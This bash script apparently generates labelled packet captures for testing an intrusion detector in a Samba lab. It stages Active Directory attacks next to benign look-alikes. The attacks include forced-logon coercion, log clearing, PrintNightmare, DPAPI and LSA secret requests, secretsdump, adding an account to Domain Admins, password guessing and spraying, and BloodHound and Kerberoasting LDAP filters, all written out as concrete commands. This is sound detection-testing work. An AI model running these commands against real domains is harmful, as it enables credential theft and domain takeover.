#!/bin/bash
# Single calls by which intruders force logons, clear logs, load drivers and fetch secrets, and what looks alike (calls.py).
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=services.sh
source "$RECORD_DIR/services.sh"
# shellcheck source=domain.sh
source "$RECORD_DIR/domain.sh"

ATTACKER=10.20.1.66
ADMIN=10.20.1.30
SERVER=10.20.2.41
DC=10.20.2.10

remote_server() {
    hospital clients servers
    host server servers $SERVER
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    WINDOWS_MORE="$*" windows_on server SRV-LAB $SERVER
    programs python3-impacket
}

ward_domain() {
    hospital clients servers
    host dc servers $DC
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    domain_on dc $DC "server max protocol = SMB2_10" "ldap server require strong auth = no" "$@"
    domain_user anna
    domain_start
    domain_client attacker "client max protocol = SMB2_10"
    domain_client admin "client max protocol = SMB2_10"
    programs python3-impacket
}

# call HOST SERVER USER PASSWORD NAME [ARGUMENT]
call() {
    local from=$1 to=$2 user=$3 password=$4
    shift 4
    local name=$1
    shift
    LIMIT=30 run "$from" $PYTHON "$RECORD_DIR/calls.py" "$name" "$to" "$user" "$password" "$@"
}

record_coercion_efs() {
    begin coercion-efs attack "A domain controller is asked to open a file on a third host by the encrypting file system's calls (PetitPotam). Samba has no such interface, so only the opening of the pipe and the bind are there."
    ward_domain
    capture clients
    call attacker $DC anna $USER_PASSWORD efs $ATTACKER
    expect "{technique: T1187, actor: $ATTACKER, what: interface of PetitPotam bound, target: $DC}"
    contains "dcerpc.cn_bind_to_uuid == c681d488-d850-11d0-8c52-00c04fd90f7e" -ge 1
    finish
}

record_coercion_dfs() {
    begin coercion-dfs attack "A server is asked to make and remove a namespace root on a third host (DFSCoerce, MS-DFSNM 12 and 13). Samba answers that it knows no such calls."
    remote_server "host msdfs = yes"
    capture clients
    call attacker $SERVER administrator $LOCAL_PASSWORD dfs $ATTACKER
    expect "{technique: T1187, actor: $ATTACKER, what: forced logon by MS-DFSNM, target: $SERVER}"
    contains "netdfs.opnum == 13 || dcerpc.opnum == 13" -ge 1
    finish
}

record_coercion_shadow() {
    begin coercion-shadow attack "A server is asked about shadow copies of a path on a third host (ShadowCoerce, MS-FSRVP 8 and 9). Samba has no agent for that, so only the pipe's opening is there."
    remote_server
    capture clients
    call attacker $SERVER administrator $LOCAL_PASSWORD shadow $ATTACKER
    expect "{technique: T1187, actor: $ATTACKER, what: pipe of the shadow copy agent opened, target: $SERVER}"
    contains 'smb2.filename contains "FssagentRpc"' -ge 1
    finish
}

record_coercion_eventlog() {
    begin coercion-eventlog attack "A server is asked to open a saved event log on a third host (MS-EVEN 9). Samba answers that it knows no such call."
    remote_server "eventlog list = Application Security System"
    capture clients
    call attacker $SERVER administrator $LOCAL_PASSWORD eventlog-backup $ATTACKER
    expect "{technique: T1187, actor: $ATTACKER, what: forced logon by MS-EVEN, target: $SERVER}"
    contains "dcerpc.opnum == 9" -ge 1
    finish
}

record_evasion_clear_log() {
    begin evasion-clear-log attack "The security log of a server is cleared by a remote call (MS-EVEN 0)."
    remote_server "eventlog list = Application Security System"
    capture clients
    call attacker $SERVER administrator $LOCAL_PASSWORD eventlog-clear Security
    expect "{technique: T1070.001, actor: $ATTACKER, what: event log cleared, target: $SERVER}"
    contains "dcerpc.opnum == 0 && dcerpc.pkt_type == 0" -ge 1
    finish
}

record_benign_eventlog() {
    begin benign-eventlog benign "A monitoring program asks how many entries the logs of a server have (MS-EVEN)."
    remote_server "eventlog list = Application Security System"
    capture clients
    local log
    for log in Application Security System; do
        call admin $SERVER administrator $LOCAL_PASSWORD eventlog-read $log
    done
    near_miss lateral.event_log_cleared lateral.security_log_cleared
    contains "dcerpc.opnum == 7" -ge 3
    finish
}

record_exploit_printer_driver() {
    begin exploit-printer-driver attack "A print server is asked to load a driver from a third host (PrintNightmare, MS-RPRN 89). Samba refuses."
    remote_server
    capture clients
    call attacker $SERVER nobody $LOCAL_PASSWORD printer-driver $ATTACKER
    expect "{technique: T1210, actor: $ATTACKER, what: printer driver of a third host asked for, target: $SERVER}"
    contains "spoolss && dcerpc.opnum == 89" -ge 1
    finish
}

record_benign_printer_driver() {
    begin benign-printer-driver benign "An administrator installs a printer driver on the print server: its files are on print\$, then the driver is entered (smbclient, rpcclient adddriver)."
    hospital clients servers
    host server servers $SERVER
    host admin clients $ADMIN
    windows_on server SRV-PRINT $SERVER
    mkdir -p "$WORK/smb-server/drivers/x64/3"
    printf '[print$]\npath = %s\nread only = no\nadmin users = root\n[printers]\npath = /tmp\nprintable = yes\n' "$WORK/smb-server/drivers" >>"$WORK/smb-server/smb.conf"
    in_host server smbcontrol -s "$WORK/smb-server/smb.conf" smbd reload-config >>"$WORK/services" 2>&1
    make_bytes "$WORK/ward.dll" 5000
    capture clients
    run admin smbclient -U "administrator%$LOCAL_PASSWORD" "//$SERVER/print\$" -c "cd x64; put $WORK/ward.dll ward.dll; put $WORK/ward.dll wardui.dll; put $WORK/ward.dll ward.ppd"
    run admin rpcclient -U "administrator%$LOCAL_PASSWORD" $SERVER -c 'adddriver "Windows x64" "Ward Printer:ward.dll:ward.ppd:wardui.dll:NULL:NULL:RAW:NULL" 3; enumdrivers'
    asks lateral.printer_driver_added
    near_miss lateral.printer_driver_from_elsewhere
    contains "spoolss" -ge 2
    finish
}

record_cred_lsa_secrets() {
    begin cred-lsa-secrets attack "A domain controller is asked for private data of the local security authority, the domain's backup key among it (MS-LSAD 43, as mimikatz and Impacket's dpapi do)."
    ward_domain
    capture clients
    call attacker $DC Administrator $ADMIN_PASSWORD lsa-secret
    expect "{technique: T1003.004, actor: $ATTACKER, what: private data of the LSA asked for, target: $DC}"
    contains "lsarpc.opnum == 43" -ge 2
    finish
}

record_cred_backup_key() {
    begin cred-backup-key attack "A domain controller is asked for its DPAPI backup key by its own interface (MS-BKRP 0)."
    ward_domain
    capture clients
    call attacker $DC Administrator $ADMIN_PASSWORD backup-key
    expect "{technique: T1555.004, actor: $ATTACKER, what: DPAPI backup key asked for, target: $DC}"
    contains "dcerpc.opnum == 0 && dcerpc.pkt_type == 0" -ge 1
    finish
}

record_benign_lsa_names() {
    begin benign-lsa-names benign "A workstation looks up the numbers of three accounts and the policy of the domain, as programs do that show permissions (rpcclient)."
    ward_domain
    capture clients
    run admin rpcclient -s "$SMB_CONF" -U "$WORKGROUP\\anna%$USER_PASSWORD" $DC -c "lsaquery;lookupnames anna Administrator;lookupnames krbtgt"
    near_miss lateral.identifiers_looked_up identity.lsa_secret_read lateral.trusts_listed
    contains "lsarpc" -ge 4
    finish
}

record_rpc_dcsync_refused() {
    begin rpc-dcsync-refused attack "A user without any right asks the domain controller to replicate secrets (Impacket's secretsdump) and is refused."
    ward_domain
    impacket secretsdump
    capture clients
    shell attacker "cd $WORK && $PYTHON $IMPACKET -just-dc-user krbtgt '$WORKGROUP/anna:$USER_PASSWORD@$DC'"
    expect "{technique: T1003.006, actor: $ATTACKER, what: directory replication, target: $DC}"
    contains "drsuapi || epm" -ge 1
    finish
}

record_disc_trusts() {
    begin disc-trusts attack "A user's host asks a domain controller for all trusts of the domain (MS-NRPC 40, as nltest does), and again by rpcclient."
    ward_domain
    capture clients
    call attacker $DC anna $USER_PASSWORD trusts
    run attacker rpcclient -s "$SMB_CONF" -U "$WORKGROUP\\anna%$USER_PASSWORD" $DC -c "enumtrust"
    expect "{technique: T1482, actor: $ATTACKER, what: trusts asked for, target: $DC}"
    contains "rpc_netlogon && dcerpc.opnum == 40" -ge 1
    finish
}

record_disc_sessions() {
    begin disc-sessions attack "A user's host asks a server who is connected and who is logged on (MS-SRVS 12, MS-WKST 2)."
    remote_server
    capture clients
    call attacker $SERVER nobody $LOCAL_PASSWORD sessions
    expect "{technique: T1049, actor: $ATTACKER, what: sessions and users asked for, target: $SERVER}"
    contains "srvsvc.opnum == 12" -ge 1
    finish
}

record_lateral_service_hijack() {
    begin lateral-service-hijack attack "The program of a service that is there already is changed to a command line, and the service is started (MS-SCMR 11 and 19). Samba refuses the change."
    remote_server
    capture clients
    call attacker $SERVER administrator $LOCAL_PASSWORD hijack-service Spooler
    expect "{technique: T1543.003, actor: $ATTACKER, what: program of a service changed, target: $SERVER}"
    contains "svcctl.opnum == 11" -ge 1
    finish
}

record_cred_hives_saved() {
    begin cred-hives-saved attack "A server is told to save two hives of its registry to files with a backup operator's rights (MS-RRP 20)."
    remote_server
    capture clients
    call attacker $SERVER administrator $LOCAL_PASSWORD save-hives "$WORK/smb-server/c/Windows/Temp"
    expect "{technique: T1003.002, actor: $ATTACKER, what: registry hives saved, target: $SERVER}"
    contains "winreg.opnum == 20" -ge 1
    finish
}

record_disc_samrdump() {
    begin disc-samrdump attack "An ordinary user's host lists all accounts of the domain with their details (Impacket's samrdump)."
    ward_domain
    impacket samrdump
    capture clients
    run attacker $PYTHON "$IMPACKET" "$WORKGROUP/anna:$USER_PASSWORD@$DC"
    expect "{technique: T1087.002, actor: $ATTACKER, what: accounts listed, target: $DC}"
    contains "samr.opnum == 13" -ge 1
    finish
}

record_disc_lookupsid() {
    begin disc-lookupsid attack "An ordinary user's host asks for the names of 1,200 numbers of accounts (Impacket's lookupsid)."
    ward_domain
    impacket lookupsid
    capture clients
    run attacker $PYTHON "$IMPACKET" "$WORKGROUP/anna:$USER_PASSWORD@$DC" 1200
    expect "{technique: T1087.002, actor: $ATTACKER, what: names of account numbers in a row, target: $DC}"
    contains "lsarpc" -ge 2
    finish
}

record_disc_rpcdump() {
    begin disc-rpcdump attack "The endpoint mapper of a domain controller is asked for everything it has (Impacket's rpcdump), without a password."
    ward_domain
    impacket rpcdump
    capture clients
    run attacker $PYTHON "$IMPACKET" $DC
    expect "{technique: T1046, actor: $ATTACKER, what: all endpoints listed, target: $DC}"
    contains "epm.opnum == 2" -ge 1
    finish
}

record_disc_rpcclient() {
    begin disc-rpcclient attack "What enum4linux asks with rpcclient: users, groups, who is in Domain Admins, password policy, shares, then names of account numbers."
    ward_domain
    local who="-s $WORK/client-attacker/smb.conf -U $WORKGROUP/anna%$USER_PASSWORD $DC"
    capture clients
    run attacker rpcclient $who -c "srvinfo;querydominfo;getdompwinfo;enumdomusers;enumdomgroups;enumalsgroups builtin;querygroupmem 512;querygroup 512;queryuser 500"
    run attacker rpcclient $who -c "netshareenumall;lsaenumsid;enumprivs"
    expect "{technique: T1087.002, actor: $ATTACKER, what: users listed, target: $DC}"
    expect "{technique: T1069.002, actor: $ATTACKER, what: groups and their members listed, target: $DC}"
    contains "samr" -ge 10
    finish
}

record_lateral_account_made() {
    begin lateral-account-made attack "Somebody with an administrator's password makes an account, puts it into Domain Admins, and makes a computer account (net rpc, Impacket's addcomputer)."
    ward_domain
    local who="-s $WORK/client-attacker/smb.conf -U $WORKGROUP/Administrator%$ADMIN_PASSWORD -S $DC"
    impacket addcomputer
    capture clients
    run attacker net rpc user add wardsvc Ward-Evil-99 $who
    run attacker net rpc group addmem "Domain Admins" wardsvc $who
    run attacker $PYTHON "$IMPACKET" -method SAMR -computer-name 'WS-NEW$' -computer-pass Ward-Evil-99 -dc-ip $DC "$WORKGROUP/anna:$USER_PASSWORD"
    expect "{technique: T1136, actor: $ATTACKER, what: account made, target: $DC}"
    expect "{technique: T1098, actor: $ATTACKER, what: account put into a group, target: $DC}"
    contains "samr && dcerpc.opnum == 50" -ge 2
    finish
}

record_guess_kerberos() {
    begin guess-kerberos attack "One user's password is guessed over Kerberos fifteen times (kinit), in vain."
    ward_domain
    programs krb5-user
    capture clients
    shell attacker "for i in {1..15}; do echo ward-guess-\$i | KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/cc kinit anna; done"
    expect "{technique: T1110.001, actor: $ATTACKER, kind: password guessing, target: $DC}"
    contains "kerberos.error_code == 24" -ge 12
    finish
}

record_guess_ldap() {
    begin guess-ldap attack "hydra guesses the password of the directory's administrator over LDAP, in vain."
    ward_domain
    programs hydra
    seq -f 'ward%g' 1 16 >"$WORK/guesses"
    capture clients
    run attacker hydra -I -l "CN=Administrator,CN=Users,DC=ward,DC=example" -P "$WORK/guesses" -t 2 ldap2://$DC
    expect "{technique: T1110.001, actor: $ATTACKER, kind: password guessing, target: $DC}"
    contains "ldap.resultCode == 49" -ge 14
    finish
}

record_spray_ldap() {
    begin spray-ldap attack "One password is tried for twelve users of the domain over LDAP simple binds (ldapwhoami), in vain."
    ward_domain
    programs ldap-utils
    capture clients
    shell attacker "for user in anna bert carla dirk els frank greet hugo inge jan karin luc; do ldapwhoami -x -H ldap://$DC -D \$user@$DOMAIN -w Winter-2026; done"
    expect "{technique: T1110.003, actor: $ATTACKER, kind: password spraying, target: $DC}"
    contains "ldap.resultCode == 49" -ge 12
    finish
}

# what BloodHound's collectors ask, page by page
BLOODHOUND=("(objectClass=domain)" "(&(samAccountType=805306368))" "(&(samAccountType=805306369))"
    "(|(samAccountType=268435456)(samAccountType=268435457)(samAccountType=536870912)(samAccountType=536870913)(primarygroupid=*))"
    "(objectCategory=groupPolicyContainer)" "(|(objectcategory=organizationalUnit)(objectclass=domain))" "(objectClass=trustedDomain)"
    "(&(serviceprincipalname=*)(samAccountType=805306368))" "(userAccountControl:1.2.840.113556.1.4.803:=4194304)" "(admincount=1)")

record_disc_ldap_collector() {
    begin disc-ldap-collector attack "The searches of BloodHound's collector, with their attributes: all users, computers, groups, policies, trusts, permissions (ldapsearch)."
    ward_domain
    programs ldap-utils
    capture clients
    local filter
    for filter in "${BLOODHOUND[@]}"; do
        run attacker ldapsearch -LLL -x -E pr=200/noprompt -H ldap://$DC -D anna@$DOMAIN -w $USER_PASSWORD -b DC=ward,DC=example "$filter" \
            samaccountname distinguishedname samaccounttype objectsid primarygroupid member serviceprincipalname useraccountcontrol admincount
    done
    expect "{technique: T1087.002, actor: $ATTACKER, what: all users read, target: $DC}"
    expect "{technique: T1069.002, actor: $ATTACKER, what: all groups read, target: $DC}"
    contains "ldap.protocolOp == 3" -ge 10
    finish
}

record_disc_ldapdomaindump() {
    begin disc-ldapdomaindump attack "ldapdomaindump reads users, groups, computers, policy and trusts of the directory."
    ward_domain
    programs python3-ldapdomaindump
    capture clients
    run attacker $PYTHON -m ldapdomaindump -at SIMPLE -u "$WORKGROUP\\anna" -p $USER_PASSWORD -o "$WORK/dump" --no-html --no-grep ldap://$DC
    expect "{technique: T1087.002, actor: $ATTACKER, what: all users read, target: $DC}"
    contains "ldap.protocolOp == 3" -ge 4
    finish
}

record_benign_address_book() {
    begin benign-address-book benign "Two workstations look for colleagues by name and read one group and their own account in the directory (ldapsearch)."
    ward_domain
    programs ldap-utils
    capture clients
    local word from
    for from in admin attacker; do
        for word in an be ca; do
            run $from ldapsearch -LLL -x -H ldap://$DC -D anna@$DOMAIN -w $USER_PASSWORD -b DC=ward,DC=example -z 20 \
                "(&(objectCategory=person)(objectClass=user)(anr=$word))" displayName mail telephoneNumber
        done
        run $from ldapsearch -LLL -x -H ldap://$DC -D anna@$DOMAIN -w $USER_PASSWORD -b DC=ward,DC=example "(sAMAccountName=anna)" memberOf
        run $from ldapsearch -LLL -x -H ldap://$DC -D anna@$DOMAIN -w $USER_PASSWORD -b "CN=Domain Users,CN=Users,DC=ward,DC=example" -s base "(objectClass=group)" description
    done
    near_miss lateral.users_searched lateral.directory_explored lateral.groups_searched identity.service_accounts_searched
    contains "ldap.protocolOp == 3" -ge 10
    finish
}

record_disc_spn_search() {
    begin disc-spn-search attack "The directory is searched for users with a service name, and for users who need no proof for a ticket, to roast them later (the filters of Impacket's GetUserSPNs and GetNPUsers, by ldapsearch)."
    ward_domain
    domain_samba_tool user create svcpacs $USER_PASSWORD
    domain_samba_tool spn add "MSSQLSvc/pacs.$DOMAIN:1433" svcpacs
    programs ldap-utils
    capture clients
    local filter
    for filter in "(&(servicePrincipalName=*)(UserAccountControl:1.2.840.113556.1.4.803:=512)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))" \
        "(&(UserAccountControl:1.2.840.113556.1.4.803:=4194304)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))"; do
        run attacker ldapsearch -LLL -x -H ldap://$DC -D anna@$DOMAIN -w $USER_PASSWORD -b DC=ward,DC=example "$filter" \
            servicePrincipalName sAMAccountName pwdLastSet MemberOf userAccountControl lastLogon
    done
    expect "{technique: T1558.003, actor: $ATTACKER, what: users with a service name looked for, target: $DC}"
    contains "ldap.protocolOp == 3" -ge 1
    finish
}

record_disc_nmap_directory() {
    begin disc-nmap-directory attack "nmap reads the root and all users of the directory (ldap-rootdse, ldap-search) with a user's password."
    ward_domain
    programs nmap
    capture clients
    LIMIT=60 run attacker nmap -n -Pn -p 389 --script ldap-rootdse,ldap-search --script-args "ldap.username='anna@$DOMAIN',ldap.password=$USER_PASSWORD,ldap.qfilter=users,ldap.attrib=sAMAccountName" $DC
    expect "{technique: T1087.002, actor: $ATTACKER, what: all users read, target: $DC}"
    contains "ldap.protocolOp == 3" -ge 2
    finish
}

main "$@"
